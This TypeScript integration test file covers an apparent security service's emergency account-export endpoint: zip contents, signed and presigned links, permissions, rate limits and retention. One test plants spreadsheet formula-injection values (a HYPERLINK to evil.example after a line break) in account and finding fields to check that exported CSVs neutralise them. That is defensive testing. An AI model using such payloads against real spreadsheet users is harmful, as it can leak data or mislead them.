import { randomBytes } from 'node:crypto';
import { existsSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { CreateBucketCommand, HeadObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { Client, Connection } from '@temporalio/client';
import type { Response as AgentResponse } from 'superagent';
import request from 'supertest';
import type { z } from 'zod';
import { createApp } from '../../api/app';
import { errorBody } from '../../core/schemas/common';
import { panicExportOutput } from '../../core/schemas/exports';
import { accountLimitKey, PANIC_EXPORTS_PER_ACCOUNT, PANIC_EXPORTS_PER_TENANT } from '../../domain/tenancy/limits';
import { PACKAGE_FILES } from '../../exports/package';
import { CHECKLIST_COLUMNS, SCORE_COLUMNS, SIGNAL_COLUMNS } from '../../exports/records';
import { localDownloadUrl } from '../../exports/storage';
import { exportRetentionWorkflowId } from '../../workflows/contracts';
import { freePort } from '../../scripts/local-services';
import { parseCsv, parseCsvTable } from '../helpers/csv';
import { formulaCells, spreadsheetReadings } from '../helpers/spreadsheet';
import {
  addUserWithRole,
  createTestContext,
  signupAndLogin,
  type TestContext,
  type TestUser,
} from '../helpers/context';
import { unzip } from '../helpers/zip';
import { scanResult } from '../helpers/scans';

// POST /accounts/{account_id}/panic: the export workflow builds a zip of everything about the account and the
// answer links to it for 15 minutes, through the API's own signed link (local store) or a presigned S3 URL.

const AWS_ID = '123456789012';

function conforms(schema: z.ZodObject, body: unknown): void {
  const result = schema.strict().safeParse(body);
  if (!result.success) throw new Error(`response does not match its schema: ${JSON.stringify(result.error.issues)}`);
}

/** Connects and verifies a sandbox account, then waits for its first scan: an ACTIVE account with findings. */
async function activeAccount(ctx: TestContext, user: TestUser, awsAccountId = AWS_ID): Promise<string> {
  await ctx.http.post('/accounts').set(user.auth).send({ aws_account_id: awsAccountId }).expect(201);
  const verified = await ctx.http.post(`/accounts/${awsAccountId}/verify`).set(user.auth).expect(200);
  await scanResult(ctx.temporal, verified.body.first_scan_execution_arn);
  const row = await ctx.db
    .selectFrom('accounts')
    .select('id')
    .where('tenant_id', '=', user.tenantId)
    .where('aws_account_id', '=', awsAccountId)
    .where('status', '!=', 'DISCONNECTED')
    .executeTakeFirstOrThrow();
  return row.id;
}

/** A supertest parser that keeps the body as bytes (the response is the raw Node stream here). */
const binary = (res: AgentResponse, done: (err: Error | null, body: Buffer) => void) => {
  const stream = res as unknown as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
};

/** Checks every file of a package against what the database and the API hold for the account. */
async function expectPackageMatches(
  ctx: TestContext,
  user: TestUser,
  accountId: string,
  exportId: string,
  files: Map<string, string>,
) {
  expect([...files.keys()].sort()).toEqual([...PACKAGE_FILES].sort());
  const signals = await ctx.db
    .selectFrom('signals')
    .selectAll()
    .where('account_id', '=', accountId)
    .orderBy('detected_at')
    .orderBy('id')
    .execute();
  expect(signals.length).toBeGreaterThan(0); // the sandbox account has findings
  const history = await ctx.db
    .selectFrom('score_history')
    .selectAll()
    .where('account_id', '=', accountId)
    .orderBy('day', 'desc')
    .execute();
  const { externalId } = await ctx.db
    .selectFrom('accounts')
    .select('external_id as externalId')
    .where('id', '=', accountId)
    .executeTakeFirstOrThrow();

  const readme = files.get('README.txt') as string;
  expect(readme).toContain(AWS_ID);
  expect(readme).toContain(exportId);
  for (const name of PACKAGE_FILES.filter((f) => f !== 'README.txt')) expect(readme).toContain(name);

  const account = JSON.parse(files.get('account.json') as string);
  expect(account).toMatchObject({
    export_id: exportId,
    account: { aws_account_id: AWS_ID, cloud_account_id: AWS_ID, status: 'ACTIVE', role_name: 'SentinelReadOnly' },
    counts: {
      signals: signals.length,
      open_signals: signals.filter((s) => !s.resolved_at).length,
      score_history_days: history.length,
    },
  });
  for (const content of files.values()) expect(content).not.toContain(externalId);
  expect(parseCsvTable(files.get('account.csv') as string)).toEqual([
    expect.objectContaining({
      aws_account_id: AWS_ID,
      status: 'ACTIVE',
      role_name: 'SentinelReadOnly',
      tags: JSON.stringify(account.account.tags),
    }),
  ]);

  const findings = JSON.parse(files.get('findings.json') as string);
  expect(findings.map((f: { signal_id: string }) => f.signal_id)).toEqual(signals.map((s) => s.id));
  expect(Object.keys(findings[0])).toEqual([...SIGNAL_COLUMNS]);
  expect(findings[0]).toMatchObject({
    title: signals[0]!.title,
    severity: signals[0]!.severity,
    detected_at: signals[0]!.detected_at.toISOString(),
  });
  const findingsCsv = parseCsvTable(files.get('findings.csv') as string);
  expect(findingsCsv.map((r) => r.signal_id)).toEqual(signals.map((s) => s.id));
  expect(parseCsv(files.get('findings.csv') as string)[0]).toEqual([...SIGNAL_COLUMNS]);

  // The audit log's events about the account, as recorded before the export.
  const activity = JSON.parse(files.get('account-activity.json') as string) as { action: string; target: string }[];
  expect(activity.map((e) => e.action)).toEqual(expect.arrayContaining(['account.connected', 'account.verified']));
  expect(activity.every((e) => e.target === `account:${AWS_ID}` || e.action.startsWith('signal.'))).toBe(true);

  const scores = JSON.parse(files.get('score-history.json') as string);
  // Each day says whether its score read every core source of the account (true or false: these are new points).
  expect(scores).toEqual(history.map((h) => ({ date: h.day, srs: h.srs, complete: h.complete, scan_id: h.scan_id })));
  expect(scores.length).toBeGreaterThan(0);
  expect(scores.every((s: { complete: unknown }) => typeof s.complete === 'boolean')).toBe(true);
  expect(parseCsv(files.get('score-history.csv') as string)).toEqual([
    [...SCORE_COLUMNS],
    ...history.map((h) => [h.day, String(h.srs), String(h.complete), h.scan_id]),
  ]);

  const { checklist } = (await ctx.http.get(`/accounts/${AWS_ID}/recovery-checklist`).set(user.auth).expect(200)).body;
  expect(JSON.parse(files.get('recovery-checklist.json') as string)).toEqual(checklist);
  const checklistCsv = parseCsvTable(files.get('recovery-checklist.csv') as string);
  expect(parseCsv(files.get('recovery-checklist.csv') as string)[0]).toEqual([...CHECKLIST_COLUMNS]);
  expect(checklistCsv.map((r) => r.title)).toEqual(checklist.map((s: { title: string }) => s.title));
}

describe('POST /accounts/{account_id}/panic (local store)', () => {
  let ctx: TestContext;
  let owner: TestUser;
  let member: TestUser;
  let accountId: string;
  let localDir: string;
  let first: { export_id: string; download_url: string; expires_at: string };

  beforeAll(async () => {
    localDir = path.join(process.env.TEST_SCRATCH_DIR as string, `exports-${randomBytes(4).toString('hex')}`);
    ctx = await createTestContext({
      withWorker: true,
      config: { CLOUD_PROVIDER: 'sandbox', EXPORT_LOCAL_DIR: localDir },
    });
    owner = await signupAndLogin(ctx);
    member = await addUserWithRole(ctx, owner.tenantId, 'member');
    accountId = await activeAccount(ctx, owner);
  });
  afterAll(() => ctx.close());

  const pathOf = (url: string) => url.slice(ctx.config.http.publicBaseUrl.length);

  it('builds the package and answers a signed link valid for 15 minutes (members may)', async () => {
    const before = Date.now();
    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(member.auth).expect(200);
    const after = Date.now();
    conforms(panicExportOutput, res.body);
    first = res.body;
    expect(res.body.message).toContain(AWS_ID);
    const url = new URL(res.body.download_url);
    expect(`${url.origin}${url.pathname}`).toBe(
      `${ctx.config.http.publicBaseUrl}/exports/${res.body.export_id}/download`,
    );
    expect(Number(url.searchParams.get('expires')) * 1000).toBe(Date.parse(res.body.expires_at));
    expect(Date.parse(res.body.expires_at)).toBeGreaterThan(before + 15 * 60_000 - 1_000);
    expect(Date.parse(res.body.expires_at)).toBeLessThanOrEqual(after + 15 * 60_000);

    const row = await ctx.db
      .selectFrom('exports')
      .selectAll()
      .where('id', '=', res.body.export_id)
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({
      tenant_id: owner.tenantId,
      account_id: accountId,
      requested_by: member.userId,
      status: 'ready',
      storage_key: `${owner.tenantId}/${res.body.export_id}.zip`,
    });
    const file = path.join(localDir, owner.tenantId, `${res.body.export_id}.zip`);
    // Readable by the service's own user only.
    expect((statSync(file).mode & 0o777).toString(8)).toBe('600');
    expect((statSync(path.dirname(file)).mode & 0o777).toString(8)).toBe('700');
    // The workflow id is the export id, so operators find it in the Temporal UI.
    expect(await ctx.temporal.workflow.getHandle(res.body.export_id).result()).toEqual({ storageKey: row.storage_key });
  });

  it('serves the zip through the signed link, with every file matching the account', async () => {
    const res = await ctx.http.get(pathOf(first.download_url)).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="sentinel-${AWS_ID}-export-\\d{8}\\.zip"$`),
    );
    expect(Number(res.headers['content-length'])).toBe((res.body as Buffer).length);
    await expectPackageMatches(ctx, owner, accountId, first.export_id, await unzip(res.body as Buffer));
  });

  it('shows no formula in any of its CSV files, whatever separator a spreadsheet reads them with', async () => {
    // A resource name from a forwarded event, an acceptance's reason and the account's display name, each with a line
    // break before a formula (a spreadsheet splitting at `;` starts a row there, past the quotes around the cell).
    const hostile = (what: string) => `${what}\r\n=HYPERLINK("http://evil.example/?${what}","open");x\n@SUM(1)`;
    await ctx.db
      .updateTable('accounts')
      .set({ display_name: hostile('name') })
      .where('id', '=', accountId)
      .execute();
    await ctx.db
      .insertInto('signals')
      .values({
        id: 'sig_hostile_resource',
        tenant_id: owner.tenantId,
        account_id: accountId,
        check_id: 'event.s3_bucket_made_public',
        fingerprint: 'event.s3_bucket_made_public|hostile|eu-west-1',
        scenario: 'exposure',
        severity: 'HIGH',
        title: 'S3 bucket made public',
        description: hostile('description'),
        resource: hostile('resource'),
        region: 'eu-west-1',
        detected_at: new Date(),
      })
      .execute();
    await ctx.http
      .post(`/accounts/${AWS_ID}/signals/sig_hostile_resource/accept`)
      .set(member.auth)
      .send({ reason: hostile('reason') })
      .expect(200);

    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(member.auth).expect(200);
    const zip = await ctx.http.get(pathOf(res.body.download_url)).buffer(true).parse(binary).expect(200);
    const files = await unzip(zip.body as Buffer);
    const csvs = [...files.keys()].filter((name) => name.endsWith('.csv'));
    expect(csvs.sort()).toEqual(PACKAGE_FILES.filter((name) => name.endsWith('.csv')).sort());
    for (const name of csvs) {
      for (const [reading, cells] of Object.entries(spreadsheetReadings(files.get(name) as string))) {
        expect({ name, reading, formulas: formulaCells(cells) }).toEqual({ name, reading, formulas: [] });
      }
    }
    // The hostile text is there, inert, in every file that holds it; the JSON files keep it exactly.
    const inert = (what: string) => `${what} '=HYPERLINK("http://evil.example/?${what}","open");x '@SUM(1)`;
    const findings = parseCsvTable(files.get('findings.csv') as string);
    const finding = findings.find((f) => f.signal_id === 'sig_hostile_resource');
    expect(finding).toMatchObject({ resource: inert('resource'), description: inert('description') });
    // The acceptances cell is JSON, whose escapes hold the line breaks: no reader starts a line or a cell there.
    expect(JSON.parse(finding?.acceptances as string)).toEqual([
      expect.objectContaining({ reason: hostile('reason') }),
    ]);
    expect(parseCsvTable(files.get('accepted-risks.csv') as string)).toEqual(
      expect.arrayContaining([expect.objectContaining({ signal_id: 'sig_hostile_resource', reason: inert('reason') })]),
    );
    expect(parseCsvTable(files.get('account.csv') as string)).toEqual([
      expect.objectContaining({ display_name: inert('name') }),
    ]);
    expect(JSON.parse(files.get('account.json') as string).account.display_name).toBe(hostile('name'));
    expect(JSON.parse(files.get('accepted-risks.json') as string)).toEqual(
      expect.arrayContaining([expect.objectContaining({ reason: hostile('reason') })]),
    );
  });

  it('refuses a tampered signature or expiry with 403 link_invalid', async () => {
    const url = new URL(first.download_url);
    const signature = url.searchParams.get('signature') as string;
    const expires = url.searchParams.get('expires') as string;
    const tamper = (params: Record<string, string>) => `${url.pathname}?${new URLSearchParams(params)}`;
    const flipped = `${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`;
    for (const target of [
      tamper({ expires, signature: flipped }),
      tamper({ expires: String(Number(expires) + 3600), signature }),
      tamper({ expires }),
      tamper({ signature }),
      url.pathname,
    ]) {
      const res = await ctx.http.get(target).expect(403);
      conforms(errorBody, res.body);
      expect(res.body.code).toBe('link_invalid');
    }
  });

  it("refuses one export's signature on another export with 403 link_invalid", async () => {
    const second = (await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(200)).body;
    expect(second.export_id).not.toBe(first.export_id);
    const url = new URL(first.download_url);
    const res = await ctx.http.get(`/exports/${second.export_id}/download${url.search}`).expect(403);
    expect(res.body.code).toBe('link_invalid');
    await ctx.http.get(pathOf(second.download_url)).expect(200);
  });

  it('refuses a correctly signed link past its expiry with 403 link_expired', async () => {
    const link = (expires: number) =>
      pathOf(
        localDownloadUrl({
          publicBaseUrl: ctx.config.http.publicBaseUrl,
          signingKey: ctx.config.secrets.urlSigningKey,
          exportId: first.export_id,
          expires,
        }),
      );
    const now = Math.floor(Date.now() / 1000);
    const res = await ctx.http.get(link(now - 1)).expect(403);
    expect(res.body).toEqual({ error: expect.any(String), code: 'link_expired' });
    await ctx.http.get(link(now + 60)).expect(200);
  });

  it('answers 404 for a signed link to an export that is not ready', async () => {
    const failed = 'exp_failed_export';
    await ctx.db
      .insertInto('exports')
      .values({ id: failed, tenant_id: owner.tenantId, account_id: accountId, status: 'failed' })
      .execute();
    const url = localDownloadUrl({
      publicBaseUrl: '',
      signingKey: ctx.config.secrets.urlSigningKey,
      exportId: failed,
      expires: Math.floor(Date.now() / 1000) + 60,
    });
    expect((await ctx.http.get(url).expect(404)).body.code).toBe('not_found');
  });

  it('is refused to viewers (403) and needs a bearer token (401)', async () => {
    const viewer = await addUserWithRole(ctx, owner.tenantId, 'viewer');
    expect((await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(viewer.auth).expect(403)).body.code).toBe('forbidden');
    expect((await ctx.http.post(`/accounts/${AWS_ID}/panic`).expect(401)).body.code).toBe('unauthorized');
  });

  it("answers 404 for another tenant's account and rejects a body with fields", async () => {
    const other = await signupAndLogin(ctx);
    expect((await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(other.auth).expect(404)).body.code).toBe('not_found');
    expect((await ctx.http.post('/accounts/nope/panic').set(other.auth).expect(404)).body.code).toBe('not_found');
    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).send({ format: 'tar' }).expect(400);
    expect(res.body.details).toEqual([{ field: 'format', message: 'unknown field' }]);
  });

  /** Fills a limit's current window to `count` hits. */
  const fillWindow = (key: string, count: number) =>
    ctx.db
      .insertInto('rate_limits')
      .values({ key, window_start: new Date(), count })
      .onConflict((oc) => oc.column('key').doUpdateSet({ window_start: new Date(), count }))
      .execute();

  it.each([
    ['account', () => accountLimitKey('export:panic', owner.tenantId, AWS_ID), PANIC_EXPORTS_PER_ACCOUNT],
    ['tenant', () => `export:panic:${owner.tenantId}`, PANIC_EXPORTS_PER_TENANT],
  ])(
    'allows a number of exports per %s per hour, then 429 with Retry-After, recording nothing',
    async (scope, keyOf, allowed) => {
      const key = keyOf();
      await fillWindow(key, allowed);
      const exportsBefore = await ctx.db
        .selectFrom('exports')
        .select('id')
        .where('account_id', '=', accountId)
        .execute();
      const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(429);
      expect(res.body).toEqual({
        error: `At most ${allowed} emergency exports per ${scope} per hour`,
        code: 'rate_limited',
      });
      expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      expect(Number(res.headers['retry-after'])).toBeLessThanOrEqual(3600);
      expect(
        await ctx.db.selectFrom('exports').select('id').where('account_id', '=', accountId).execute(),
      ).toHaveLength(exportsBefore.length);
      await ctx.db.deleteFrom('rate_limits').where('key', 'like', 'export:panic:%').execute();
    },
  );

  it("keeps counting an account's exports when it is disconnected and connected again", async () => {
    const other = await signupAndLogin(ctx);
    await activeAccount(ctx, other);
    await fillWindow(accountLimitKey('export:panic', other.tenantId, AWS_ID), PANIC_EXPORTS_PER_ACCOUNT);
    await ctx.http.delete(`/accounts/${AWS_ID}`).set(other.auth).expect(200);
    await activeAccount(ctx, other);
    expect((await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(other.auth).expect(429)).body.code).toBe(
      'rate_limited',
    );
  });

  it('answers 503 temporal_unavailable while Temporal is unreachable, recording nothing and not counting', async () => {
    const connection = Connection.lazy({ address: `127.0.0.1:${await freePort()}`, connectTimeout: 1_000 });
    const app = request(createApp({ ...ctx, temporal: new Client({ connection }) }));
    try {
      const exportsBefore = await ctx.db
        .selectFrom('exports')
        .select('id')
        .where('account_id', '=', accountId)
        .execute();
      const res = await app.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(503);
      expect(res.body.code).toBe('temporal_unavailable');
      expect(res.headers['retry-after']).toBeDefined();
      expect(
        await ctx.db.selectFrom('exports').select('id').where('account_id', '=', accountId).execute(),
      ).toHaveLength(exportsBefore.length);
      const hits = await ctx.db
        .selectFrom('rate_limits')
        .select('count')
        .where('key', 'like', `export:panic:${owner.tenantId}%`)
        .execute();
      expect(hits.map((h) => h.count)).toEqual(hits.map(() => 0));
    } finally {
      await connection.close().catch(() => undefined);
    }
  });
});

describe('panic export packages past their retention (local store)', () => {
  let ctx: TestContext;
  let owner: TestUser;
  let localDir: string;

  beforeAll(async () => {
    localDir = path.join(process.env.TEST_SCRATCH_DIR as string, `exports-${randomBytes(4).toString('hex')}`);
    ctx = await createTestContext({
      withWorker: true,
      config: { CLOUD_PROVIDER: 'sandbox', EXPORT_LOCAL_DIR: localDir, EXPORT_RETENTION_SECONDS: '2' },
    });
    owner = await signupAndLogin(ctx);
    await activeAccount(ctx, owner);
  });
  afterAll(() => ctx.close());

  it('deletes the file once its retention has passed, and its link then finds nothing', async () => {
    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(200);
    const file = path.join(localDir, owner.tenantId, `${res.body.export_id}.zip`);
    expect(existsSync(file)).toBe(true);

    await ctx.temporal.workflow.getHandle(exportRetentionWorkflowId(res.body.export_id)).result();
    expect(existsSync(file)).toBe(false);
    const row = await ctx.db
      .selectFrom('exports')
      .selectAll()
      .where('id', '=', res.body.export_id)
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ status: 'ready', storage_key: null });
    const link = new URL(res.body.download_url);
    const gone = await ctx.http.get(`${link.pathname}${link.search}`).expect(404);
    expect(gone.body.code).toBe('not_found');
  });
});

describe('POST /accounts/{account_id}/panic when the package cannot be stored', () => {
  let ctx: TestContext;
  let owner: TestUser;

  beforeAll(async () => {
    // The export "directory" is a file: every attempt to store the package fails.
    const blocked = path.join(
      process.env.TEST_SCRATCH_DIR as string,
      `exports-blocked-${randomBytes(4).toString('hex')}`,
    );
    writeFileSync(blocked, 'not a directory');
    ctx = await createTestContext({
      withWorker: true,
      config: { CLOUD_PROVIDER: 'sandbox', EXPORT_LOCAL_DIR: blocked },
    });
    owner = await signupAndLogin(ctx);
    await ctx.db
      .insertInto('accounts')
      .values({
        id: 'acc_blocked',
        tenant_id: owner.tenantId,
        aws_account_id: AWS_ID,
        display_name: null,
        tags: [],
        status: 'ACTIVE',
        external_id: 'b'.repeat(40),
        role_name: 'SentinelReadOnly',
        workflow_id: 'wf-blocked',
      })
      .execute();
  });
  afterAll(() => ctx.close());

  it('answers 503 export_failed naming the export, which is recorded as failed', async () => {
    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(503);
    expect(res.body.code).toBe('export_failed');
    expect(res.headers['retry-after']).toBeDefined();
    const [row, ...others] = await ctx.db
      .selectFrom('exports')
      .selectAll()
      .where('account_id', '=', 'acc_blocked')
      .execute();
    expect(others).toEqual([]);
    expect(row).toMatchObject({ status: 'failed', storage_key: null });
    expect(res.body.error).toContain(row!.id);
  });
});

describe('POST /accounts/{account_id}/panic (S3)', () => {
  let ctx: TestContext;
  let owner: TestUser;
  let accountId: string;
  const bucket = `sentinel-exports-${randomBytes(4).toString('hex')}`;
  const s3 = new S3Client({ region: 'us-east-1', endpoint: process.env.TEST_AWS_ENDPOINT, forcePathStyle: true });

  beforeAll(async () => {
    await s3.send(new CreateBucketCommand({ Bucket: bucket }));
    ctx = await createTestContext({
      withWorker: true,
      config: {
        CLOUD_PROVIDER: 'sandbox',
        EXPORT_S3_BUCKET: bucket,
        AWS_ENDPOINT_URL: process.env.TEST_AWS_ENDPOINT as string,
        EXPORT_RETENTION_SECONDS: '5',
      },
    });
    owner = await signupAndLogin(ctx);
    accountId = await activeAccount(ctx, owner);
  });
  afterAll(async () => {
    s3.destroy();
    await ctx.close();
  });

  it('stores the package in the bucket and answers a presigned GET valid 15 minutes', async () => {
    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(owner.auth).expect(200);
    conforms(panicExportOutput, res.body);
    const key = `${owner.tenantId}/${res.body.export_id}.zip`;
    const url = new URL(res.body.download_url);
    expect(`${url.origin}${url.pathname}`).toBe(`${process.env.TEST_AWS_ENDPOINT}/${bucket}/${key}`);
    expect(url.searchParams.get('X-Amz-Expires')).toBe('900');
    const signedAt = url.searchParams.get('X-Amz-Date') as string; // e.g. 20261121T101500Z
    const signedMs = Date.parse(
      signedAt.replace(/^(\d{4})(\d{2})(\d{2})T(\d{2})(\d{2})(\d{2})Z$/, '$1-$2-$3T$4:$5:$6Z'),
    );
    expect(Date.parse(res.body.expires_at)).toBe(signedMs + 900_000);

    const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
    expect(head.ContentType).toBe('application/zip');

    const download = await fetch(res.body.download_url);
    expect(download.status).toBe(200);
    const files = await unzip(Buffer.from(await download.arrayBuffer()));
    await expectPackageMatches(ctx, owner, accountId, res.body.export_id, files);

    // Past its retention the object is deleted from the bucket.
    await ctx.temporal.workflow.getHandle(exportRetentionWorkflowId(res.body.export_id)).result();
    await expect(s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }))).rejects.toMatchObject({
      name: 'NotFound',
    });
  });
});
